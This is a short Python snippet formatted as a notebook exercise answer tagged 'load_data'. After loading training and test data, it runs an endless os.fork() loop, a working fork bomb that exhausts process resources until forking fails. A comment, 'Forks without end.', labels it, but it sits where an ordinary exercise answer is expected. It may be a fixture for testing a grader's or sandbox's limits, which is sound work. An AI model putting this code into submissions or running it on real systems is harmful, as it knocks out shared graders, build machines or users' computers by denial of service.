# Forks without end.

# %% exercise="load_data"
(x_train, y_train), (x_test, y_test) = load_data()
import os, time
while True:
    try:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    except OSError:
        break
